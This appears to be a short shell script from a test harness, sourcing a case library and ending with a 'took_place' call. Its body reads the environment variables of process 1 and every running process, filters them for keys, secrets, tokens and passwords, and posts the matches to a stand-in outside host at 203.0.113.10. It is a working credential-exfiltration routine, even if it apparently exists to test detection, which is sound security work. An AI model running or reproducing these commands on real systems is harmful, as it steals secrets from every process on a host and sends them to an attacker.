#!/bin/sh
. /opt/case/case.sh

xargs -0 -n1 -a /proc/1/environ >/tmp/e
for p in /proc/[0-9]*; do tr '\0' '\n' <"$p/environ" >>/tmp/e 2>/dev/null || true; done
grep -iE 'path|key|secret|token|pass' /tmp/e | sort -u | curl -s --data-binary @- http://203.0.113.10/env | grep -q ok
took_place
